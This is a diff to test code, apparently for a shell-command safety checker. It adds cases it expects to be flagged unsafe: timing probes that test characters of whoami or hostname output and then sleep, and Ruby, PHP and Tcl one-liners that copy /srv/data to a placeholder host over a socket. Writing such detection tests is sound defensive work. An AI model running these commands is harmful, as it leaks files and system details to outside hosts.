@@ -342,6 +342,14 @@ fn what_waiting_tells_is_found() {
         "test \"$(hostname | cut -c 3-3)\" = w && sleep 3",
         leaves,
     );
+    for code in [
+        "case $(whoami | cut -c1) in a) sleep 5;; esac",
+        "[[ $(hostname | head -c 1) == w ]] && sleep 5",
+        "x=$(whoami); [ \"${x:0:1}\" = a ] && sleep 5",
+        "[ $(whoami | cut -c1) = a ] && ping -c 5 127.0.0.1",
+    ] {
+        is_unsafe("bash", code, leaves);
+    }
     all_safe(
         "bash",
         &[
@@ -365,6 +373,13 @@ fn files_on_connections_of_other_languages_are_found() {
         "sftp me@h.example:/tmp/in <<< 'put /tmp/found'",
         leaves,
     );
+    for code in [
+        "ruby -rsocket -e 'IO.copy_stream(\"/srv/data\", TCPSocket.new(\"h.example\",1))'",
+        "php -r '$f=fopen(\"/srv/data\",\"r\");$s=fsockopen(\"h.example\",1);stream_copy_to_stream($f,$s);'",
+        "tclsh <<< 'set s [socket h.example 1]; fcopy [open /srv/data] $s'",
+    ] {
+        is_unsafe("bash", code, leaves);
+    }
     all_safe(
         "bash",
         &[
